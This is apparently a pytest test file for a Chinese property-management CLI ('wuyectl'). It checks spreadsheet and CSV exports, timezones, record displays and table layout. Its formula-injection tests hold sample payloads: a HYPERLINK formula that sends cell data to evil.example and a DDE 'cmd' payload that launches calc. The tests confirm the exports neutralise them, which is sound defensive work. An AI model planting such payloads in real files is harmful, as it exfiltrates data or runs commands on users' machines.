"""Exports that open right in Excel, and what a clerk sees (issue 11).

CSV for people is UTF-8 with a BOM under a title row; csv and xlsx carry whole values, one fact
a column; no cell becomes a formula; rates are numbers in xlsx; every time is in the office's
timezone; `show` is labelled for every kind; the terminal's table fits its width; `get
tickets` lists the open ones, newest first; a public place reads `2栋3层1单元 消防栓箱`.
"""
from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime

import pytest
from openpyxl import load_workbook
from wcwidth import wcswidth

from conftest import MASKED, PHONE, UNIT, ticket_path

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看详情")'
CALC = "=cmd|' /C calc'!A0"
LONG = "楼上卫生间防水层老化，漏水已经渗到我家客厅天花板和墙面，墙皮大面积脱落，家里老人小孩都在，请尽快安排师傅上门查看处理"
FIRE_BOX = ["--building", "2", "--floor", "3层", "--place", "1单元消防栓箱"]


def open_ticket(cli, *args, who="王芳", category="repair", description="卫生间漏水"):
    result = cli("open", "ticket", "--channel", "phone", "--category", category, "--description", description,
                 "-o", "ids", "--as", who, *args)
    assert result.code == 0, result.err
    return result.out.strip()


def csv_rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


# -- one rule for CSV: UTF-8 with a BOM, a title row ---------------------------------------------
def test_get_csv_is_utf8_with_a_bom_a_title_row_and_crlf_lines(run):
    tid = open_ticket(lambda *a: run(*a), "--unit", UNIT, "--reporter", "张先生", "--phone", PHONE)
    result = run("get", "tickets", "-o", "csv")
    assert (result.code, result.err) == (0, "")
    assert result.out == (
        "\ufeff工单,计算时点 2026-11-22 09:14+08:00,筛选 未结\r\n"
        "\r\n"
        "编号,状态,类别,渠道,房号/位置,报告人,电话,处理人,升级,受理时间,下一时限,超时,内容\r\n"
        f"{tid},已受理,报修,电话,{UNIT},张先生,{MASKED},,0,2026-11-22 09:14,2026-11-22 09:19,否,卫生间漏水\r\n")


def test_get_csv_to_a_file_and_the_filter_in_the_title_row(cli, office, tmp_path):
    open_ticket(cli, "--unit", UNIT)
    path = tmp_path / "投诉.csv"
    result = cli("get", "tickets", str(path), "--where", "category=报修", "--overdue", "-o", "csv",
                 env={"WUYECTL_NOW": "2026-11-22T10:00:00+08:00"})
    assert (result.code, result.out, result.err) == (0, f"{path}\n", "")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.decode("utf-8").splitlines()[0] == (
        "\ufeff工单,计算时点 2026-11-22 10:00+08:00,筛选 未结 --where category=报修 --overdue")
    every = cli("get", "owners", "-o", "csv", "--lang", "en")
    assert every.out.splitlines()[0] == "\ufeffowners,as of 2026-11-22 09:14+08:00,filter all"


def test_report_csv_and_get_csv_follow_the_same_rule(cli):
    from wuyectl.cli import output

    assert output.to_csv(["a"], [["b"]]) == "\ufeffa\r\nb\r\n"
    report = cli("report", "records", "--month", "2026-11", "-o", "csv")
    assert report.out.startswith("\ufeff记录概况,统计期间 2026-11-01 – 2026-11-30,计算时点 2026-11-22 09:14+08:00\r\n\r\n")


# -- whole values, one fact a column ------------------------------------------------------------
def test_csv_and_xlsx_carry_whole_descriptions_and_the_state_in_its_own_column(cli, tmp_path):
    tid = open_ticket(cli, "--unit", UNIT, description=LONG)
    later = {"WUYECTL_NOW": "2026-11-22T10:00:00+08:00"}   # the dispatch limit (09:19) has passed
    table = cli("get", "tickets", env=later).out
    assert "2026-11-22 09:19 超时  楼上卫生间防水层老化，漏水已…\n" in table      # only the terminal clips and joins
    rows = csv_rows(cli("get", "tickets", "-o", "csv", env=later).out)
    header, row = rows[2], rows[3]
    assert dict(zip(header, row)) == {
        "编号": tid, "状态": "已受理", "类别": "报修", "渠道": "电话", "房号/位置": UNIT, "报告人": "", "电话": "",
        "处理人": "", "升级": "0", "受理时间": "2026-11-22 09:14", "下一时限": "2026-11-22 09:19", "超时": "是",
        "内容": LONG}
    path = tmp_path / "tickets.xlsx"
    result = cli("get", "tickets", str(path), "-o", "xlsx", env=later)
    assert (result.code, result.out, result.err) == (0, f"{path}\n", "")
    sheet = load_workbook(path)["工单"]
    values = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert values[0][:3] == ["工单", "计算时点 2026-11-22 10:00+08:00", "筛选 未结"]
    assert values[1] == header
    assert values[2] == [tid, "已受理", "报修", "电话", UNIT, None, None, None, 0, datetime(2026, 11, 22, 9, 14),
                         datetime(2026, 11, 22, 9, 19), "是", LONG]
    assert sheet["J3"].number_format == "yyyy-mm-dd hh:mm"
    # JSON and YAML were whole already
    assert json.loads(cli("get", "tickets", "-o", "json", env=later).out)[0]["description"] == LONG


def test_xlsx_needs_a_file(cli):
    result = cli("get", "tickets", "-o", "xlsx", "--lang", "en")
    assert (result.code, result.out, result.err) == (
        2, "", "wuyectl: -o xlsx needs a FILE to write: wuyectl get … -o xlsx tickets.xlsx\n")


def test_an_archive_loan_is_two_columns_in_the_exports(cli):
    aid = cli("open", "archive", "--title", "小区平面图", "--category", "site_plan", "--medium", "paper",
              "--location", "档案柜1-1", "--retention", "30", "--as", "王芳").out.strip()
    assert cli("lend", aid, "--to", "李明", "--purpose", "施工参考", "--as", "王芳").code == 0
    assert cli("get", "archive").out.splitlines()[2].endswith("李明 → 2026-11-25 09:14")
    header, row = csv_rows(cli("get", "archive", "-o", "csv").out)[2:4]
    assert dict(zip(header, row))["借出"] == "李明"
    assert dict(zip(header, row))["应还时间"] == "2026-11-25 09:14"


# -- formula injection ----------------------------------------------------------------------------
def test_no_cell_becomes_a_formula(cli, tmp_path):
    first = open_ticket(cli, "--unit", UNIT, description=HYPERLINK)
    second = open_ticket(cli, "--unit", UNIT, "--reporter", "@SUM(A1:A9)", description=CALC)
    rows = csv_rows(cli("get", "tickets", "-o", "csv").out)
    by_id = {r[0]: r for r in rows[3:]}
    assert by_id[first][-1] == "'" + HYPERLINK
    assert by_id[second][-1] == "'" + CALC
    assert by_id[second][5] == "'@SUM(A1:A9)"
    assert by_id[second][8] == "0"                    # numbers are left alone
    path = tmp_path / "tickets.xlsx"
    assert cli("get", "tickets", str(path), "-o", "xlsx").code == 0
    book = load_workbook(path)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for words in (HYPERLINK, CALC, "@SUM(A1:A9)"):
        assert texts[words].data_type == "s" and texts[words].quotePrefix, words
    # a report's CSV is neutralised by the same rule
    assert cli("assign", first, "--to", "李明", "--as", "王芳").code == 0
    report = cli("report", "handover", "--date", "2026-11-22", "-o", "csv").out
    assert "'=HYPERLINK" in report and "'=cmd" in report and "\n=" not in report and ",=" not in report


def test_numbers_stay_numbers_and_text_stays_text_in_a_workbook(tmp_path):
    from wuyectl.cli import output

    path = tmp_path / "cells.xlsx"
    output.xlsx_document(str(path), [("表", ["数", "文字", "横线", "负数文字", "公式"],
                                      [[-5, "-5", "-", "-1.5", "=1+1"], [2.5, "+86 138", "", None, "@A1"]])])
    sheet = load_workbook(path)["表"]
    assert [(c.value, c.data_type, bool(c.quotePrefix)) for c in sheet[2]] == [
        (-5, "n", False), ("-5", "s", False), ("-", "s", False), ("-1.5", "s", False), ("=1+1", "s", True)]
    assert [(c.value, c.data_type, bool(c.quotePrefix)) for c in sheet[3]] == [
        (2.5, "n", False), ("+86 138", "s", True), (None, "n", False), (None, "n", False), ("@A1", "s", True)]
    assert output.csv_document([(None, ["a", "b", "c", "d", "e", "f"], [[-5, "-5", "-", "+86 138", "\tx", "\rx"]])]) == (
        "\ufeffa,b,c,d,e,f\r\n-5,-5,-,'+86 138,'\tx,\"'\rx\"\r\n")


# -- rates are numbers in xlsx --------------------------------------------------------------------
def _report(rate_text, numerator, denominator):
    from datetime import date
    from zoneinfo import ZoneInfo

    from wuyectl.reports.base import Period, Report, percent, section

    tz = ZoneInfo("Asia/Shanghai")
    rep = Report("kpi", "服务质量指标", Period(date(2026, 11, 1), date(2026, 11, 30), tz),
                 datetime(2026, 11, 25, 9, 0, tzinfo=tz), meta={"lang": "zh"})
    rows = [["受理及时率", percent(23, 25), 23, 25], ["处理完成率", percent(20, 30), 20, 30],
            ["回访率", percent(0, 0), 0, 0]]
    rep.sections.append(section("figures", ("指标", "Figures"), ["figure", "value", "numerator", "denominator"],
                                rows, "zh"))
    return rep


def test_rates_are_numbers_formatted_as_percent_in_xlsx_and_text_elsewhere(tmp_path):
    from wuyectl.cli import output

    rep = _report(None, None, None)
    path = tmp_path / "kpi.xlsx"
    output.report_xlsx(rep, str(path))
    sheet = load_workbook(path)["指标"]
    assert [list(r) for r in sheet.iter_rows(values_only=True)] == [
        ["服务质量指标", "统计期间 2026-11-01 – 2026-11-30", "计算时点 2026-11-25 09:00+08:00", None],
        ["指标", "数值", "分子", "分母"],
        ["受理及时率", 0.92, 23, 25],
        ["处理完成率", 20 / 30, 20, 30],
        ["回访率", "n/a", 0, 0],
    ]
    assert [(sheet[f"B{r}"].data_type, sheet[f"B{r}"].number_format) for r in (3, 4, 5)] == [
        ("n", "0.0%"), ("n", "0.0%"), ("s", "General")]
    # the text forms keep '92.0%' (JSON's documented contract; Excel reads the CSV's as 0.92)
    assert output.report_json(rep)["sections"]["figures"]["rows"][0]["value"] == "92.0%"
    assert output.report_csv(rep) == (
        "\ufeff服务质量指标,统计期间 2026-11-01 – 2026-11-30,计算时点 2026-11-25 09:00+08:00\r\n"
        "\r\n"
        "指标\r\n"
        "指标,数值,分子,分母\r\n"
        "受理及时率,92.0%,23,25\r\n"
        "处理完成率,66.7%,20,30\r\n"
        "回访率,n/a,0,0\r\n")
    assert output.report_text(rep, "zh").splitlines()[0] == (
        "服务质量指标  统计期间 2026-11-01 – 2026-11-30  计算时点 2026-11-25 09:00+08:00")


# -- times in the office's timezone -----------------------------------------------------------
UTC_TICKET = """\
id: T-20261122-A001
status: received
channel: phone
category: consult
unit: 3-2-1201
description: 物业费怎么交
escalation_level: 0
received_at: 2026-11-22T01:39:00+00:00
timeline:
  - at: 2026-11-22T01:39:00+00:00
    by: 王芳
    action: receive
"""


def test_the_same_instant_shows_in_the_offices_timezone_everywhere(run, write, git, monkeypatch):
    # recorded on a computer set to UTC: the event's offset and the commit's are +00:00
    write(ticket_path("T-20261122-A001"), UTC_TICKET)
    monkeypatch.setenv("GIT_AUTHOR_DATE", "2026-11-22T01:39:00+00:00")
    monkeypatch.setenv("GIT_COMMITTER_DATE", "2026-11-22T01:39:00+00:00")
    git("add", "-A")
    git("commit", "-q", "--no-verify", "-m", "T-20261122-A001 by hand")
    commit = git("rev-parse", "--short", "HEAD").strip()
    shown = run("show", "T-20261122-A001", env={"TZ": "UTC"})
    assert shown.code == 0, shown.err
    timeline = shown.out.split("处理记录:\n", 1)[1].split("\n\n", 1)[0]
    assert timeline.splitlines()[2] == "2026-11-22 09:39  王芳      受理"
    history = shown.out.split("修改历史:\n", 1)[1]
    assert history.splitlines()[2] == f"{commit}  王芳    2026-11-22 09:39  T-20261122-A001 by hand"
    assert "  受理时间  2026-11-22 09:39\n" in shown.out
    assert "01:39" not in shown.out
    listed = run("get", "tickets", env={"TZ": "UTC"}).out.splitlines()[2]
    assert listed.startswith("T-20261122-A001  已受理  咨询") and "  2026-11-22 09:39  " in listed


def test_short_converts_to_the_zone_it_is_given(monkeypatch):
    from zoneinfo import ZoneInfo

    from wuyectl.timeutil import short, shown_in

    assert short("2026-11-22T01:39:00+00:00", ZoneInfo("Asia/Shanghai")) == "2026-11-22 09:39"
    with shown_in(ZoneInfo("America/Los_Angeles")):
        assert short("2026-11-22T09:39:00+08:00") == "2026-11-21 17:39"
    assert short("2026-11-22T01:39:00+00:00") == "2026-11-22 01:39"      # no zone set: its own offset
    assert (short("2026-10-31"), short(None), short("")) == ("2026-10-31", "", "")


# -- `show` is labelled for every kind ------------------------------------------------------------
def _head(out: str) -> str:
    """What `show` prints before the history (whose times are the real clock's)."""
    return re.split(r"\n\n(?:修改历史|history):\n", out, maxsplit=1)[0]


def test_show_a_household(cli, office):
    from wuyectl import api

    assert cli("open", "owner", "--unit", "1-1-101", "--name", "李四", "--phone", "13712345678",
               "--occupancy", "出租", "--as", "王芳").code == 0
    path = office / "owners/1/1-1-101.yaml"
    created = next(line for line in path.read_text(encoding="utf-8").splitlines() if line.startswith("created_at:"))
    text = "\n".join([
        "id: 1-1-101", "building_area: 89.5", "occupancy: rented",
        "owners:", "  - name: 李四", "    phone: '13712345678'", "    gender: female", "    id_card: '110101199001011237'",
        "members:", "  - name: 李小四", "    gender: male", "    relation: 子", created, ""])
    api.edit_record(api.Office(str(office)), "王芳", "1-1-101", text)
    out = cli("show", "1-1-101").out
    assert _head(out) == """\
1-1-101  (owners/1/1-1-101.yaml)
  建筑面积(m²)  89.5
  居住状态      出租
  建档时间      2026-11-22 09:14

业主:
姓名    电话         性别    身份证号
------  -----------  ------  ------------------
李四    137****5678  女      1101**********1237

家庭成员:
姓名    性别    关系
------  ------  ------
李小四  男      子

暂无记录：工单、走访/回访、违章、装修申请、物品借用、失物招领、邮件包裹、物品放行、来访登记"""


def test_show_a_violation(cli):
    vid = cli("open", "violation", "--category", "消防", "--subtype", "堵塞消防通道", *FIRE_BOX,
              "--description", "楼道堆放杂物", "--as", "王芳").out.strip()
    assert cli("escalate", vid, "--reason", "劝导清理", "--as", "王芳").code == 0
    assert cli("rectify", vid, "--set", "result=已清理", "--as", "王芳").code == 0
    assert _head(cli("show", vid).out) == f"""\
{vid}  (violations/2026/{vid}.yaml)
  状态      已整改
  类别      消防
  违章行为  堵塞消防通道
  程度      一般
  位置      2栋3层1单元 消防栓箱
  内容      楼道堆放杂物
  发现时间  2026-11-22 09:14
  发现人    王芳
  处理程序  一般违章
  当前措施  劝导教育
  结案时间  2026-11-22 09:14
  保存至    2027-11-22
  处理结果  已清理

处理措施:
当前措施    时间              经办人    说明
----------  ----------------  --------  --------
劝导教育    2026-11-22 09:14  王芳      劝导清理

处理记录:
时间              经办人    动作             说明
----------------  --------  ---------------  ---------------
2026-11-22 09:14  王芳      登记
2026-11-22 09:14  王芳      升级 → 劝导教育  劝导清理
2026-11-22 09:14  王芳      已整改           处理结果 已清理"""


def test_show_an_archive_item_with_its_loan(cli):
    aid = cli("open", "archive", "--title", "小区平面图", "--category", "site_plan", "--medium", "paper",
              "--location", "档案柜1-1", "--retention", "30", "--as", "王芳").out.strip()
    assert cli("lend", aid, "--to", "李明", "--purpose", "施工参考", "--as", "王芳").code == 0
    assert _head(cli("show", aid).out) == f"""\
{aid}  (archive/{aid}.yaml)
  状态        借出
  题名        小区平面图
  类别        小区平面图
  载体        纸质
  保密        否
  位置        档案柜1-1
  归档日期    2026-11-22
  保管年限    30
  可销毁日期  2056-11-22

借阅记录:
借阅人    用途      借出时间          时限              经手人
--------  --------  ----------------  ----------------  --------
李明      施工参考  2026-11-22 09:14  2026-11-25 09:14  王芳

处理记录:
时间              经办人    动作    说明
----------------  --------  ------  ------
2026-11-22 09:14  王芳      登记
2026-11-22 09:14  王芳      借出"""


def test_show_a_callback_visit_in_english(cli, ticket):
    for action in (["assign", ticket, "--to", "李明"], ["update", ticket, "--action", "resolve", "--set", "result=换阀门",
                                                        "--set", "signed_by=张先生"]):
        assert cli(*action, "--as", "王芳").code == 0, action
    vid = cli("callback", ticket, "--rating", "满意", "--item", "timeliness=满意", "--note", "很快",
              "--as", "王芳").out.strip()
    assert _head(cli("show", vid, "--lang", "en").out) == f"""\
{vid}  (visits/2026-11/{vid}.yaml)
  type     callback
  ticket   {ticket}
  unit     {UNIT}
  method   phone
  visited  2026-11-22 09:14
  visitor  王芳
  ratings  timeliness satisfied; overall satisfied
  note     很快"""


# -- the terminal's table fits its width ------------------------------------------------------
def test_the_table_fits_columns_and_a_pipe_gets_it_whole(run, cli):
    a = open_ticket(cli, "--unit", UNIT, "--reporter", "张先生", "--phone", PHONE, description=LONG)
    b = open_ticket(cli, *FIRE_BOX, "--reporter", "张勇", category="complaint", description="消防栓箱玻璃破损")
    narrow = run("get", "tickets", env={"COLUMNS": "80"})
    assert narrow.out == f"""\
编号             状态    房号/位置             下一时限          内容
---------------  ------  --------------------  ----------------  ---------------
{b}  已受理  2栋3层1单元 消防栓箱  2026-11-22 09:19  消防栓箱玻璃破…
{a}  已受理  3-2-1201              2026-11-22 09:19  楼上卫生间防水…
(2 条)
"""
    assert max(wcswidth(line) for line in narrow.out.splitlines()) <= 80
    wide = run("get", "tickets", env={"COLUMNS": "120"}).out
    # phone, level, channel dropped; the description shrunk, the reporter dropped, the description given back room
    assert wide.splitlines()[0].split() == ["编号", "状态", "类别", "房号/位置", "处理人", "受理时间", "下一时限", "内容"]
    assert wide.splitlines()[3].endswith("  楼上卫生间防水层老…")
    assert max(wcswidth(line) for line in wide.splitlines()) <= 120
    piped = run("get", "tickets").out       # no COLUMNS, not a terminal: every column
    assert piped.splitlines()[0].split() == ["编号", "状态", "类别", "渠道", "房号/位置", "报告人", "电话", "处理人",
                                             "升级", "受理时间", "下一时限", "内容"]
    assert max(wcswidth(line) for line in piped.splitlines()) > 120


def test_on_a_terminal_the_width_is_the_terminals(monkeypatch):
    import os
    import shutil
    import sys

    from wuyectl.cli import output

    monkeypatch.delenv("COLUMNS", raising=False)
    assert output.terminal_width() is None                         # captured: not a terminal
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    monkeypatch.setattr(shutil, "get_terminal_size", lambda *a, **k: os.terminal_size((72, 24)))
    assert output.terminal_width() == 72
    monkeypatch.setenv("COLUMNS", "90")
    assert output.terminal_width() == 90


# -- `get tickets`: the open ones, newest first --------------------------------------------------
def test_get_tickets_lists_the_open_ones_newest_first(cli):
    made = {}
    for at in ("2026-11-20 08:00", "2026-11-21 08:00", "2026-11-19 08:00", "2026-11-22 08:00"):
        made[at] = open_ticket(cli, "--unit", UNIT, "--at", at, category="consult")
    old, mid, oldest, new = made.values()
    assert cli("answer", mid, "--note", "可在APP缴纳", "--as", "王芳").code == 0
    assert cli("close", mid, "--as", "王芳").code == 0
    assert cli("cancel", oldest, "--note", "重复登记", "--as", "王芳").code == 0
    assert cli("get", "tickets", "-o", "ids").out == f"{new}\n{old}\n"
    assert cli("get", "tickets", "--all", "-o", "ids").out == f"{new}\n{mid}\n{old}\n{oldest}\n"
    # a condition on the status chooses the states itself
    assert cli("get", "tickets", "--where", "status=已关闭", "-o", "ids").out == f"{mid}\n"
    assert [r["id"] for r in json.loads(cli("get", "tickets", "-o", "json").out)] == [new, old]


def test_the_other_kinds_have_an_order_of_their_own(cli):
    for unit in ("10-1-101", "2-1-101", "2-1-1101", "2-1-201"):
        assert cli("open", "owner", "--unit", unit, "--name", "甲", "--as", "王芳").code == 0
    assert cli("get", "owners", "-o", "ids").out.split() == ["2-1-101", "2-1-201", "2-1-1101", UNIT, "10-1-101"]
    first = cli("open", "violation", "--category", "fire", "--unit", UNIT, "--description", "a", "--as", "王芳",
                "--at", "2026-11-21 08:00").out.strip()
    second = cli("open", "violation", "--category", "fire", "--unit", UNIT, "--description", "b", "--as", "王芳",
                 "--at", "2026-11-22 08:00").out.strip()
    assert cli("get", "violations", "-o", "ids").out.split() == [second, first]


# -- a public place -------------------------------------------------------------------------------
def test_a_public_place_reads_building_floor_stairwell_then_the_place(cli):
    from wuyectl.domain.kinds import place_text

    tid = open_ticket(cli, *FIRE_BOX)
    row = next(line for line in cli("get", "tickets").out.splitlines() if line.startswith(tid))
    assert row.split("  ")[0:1] == [tid] and "  2栋3层1单元 消防栓箱  " in row
    assert "  位置      2栋3层1单元 消防栓箱\n" in cli("show", tid).out
    assert dict(zip(*csv_rows(cli("get", "tickets", "-o", "csv").out)[2:4]))["房号/位置"] == "2栋3层1单元 消防栓箱"
    assert [place_text(loc) for loc in (
        {"building": "2", "floor": "3层", "place": "1单元消防栓箱"},
        {"building": "6", "floor": "1", "place": "1单元大堂"},
        {"building": "5", "floor": "B1", "place": "2单元客梯"},
        {"building": "3栋", "place": "地下车库B区"},
        {"place": "小区东门"},
    )] == ["2栋3层1单元 消防栓箱", "6栋1层1单元 大堂", "5栋B1层2单元 客梯", "3栋 地下车库B区", "小区东门"]
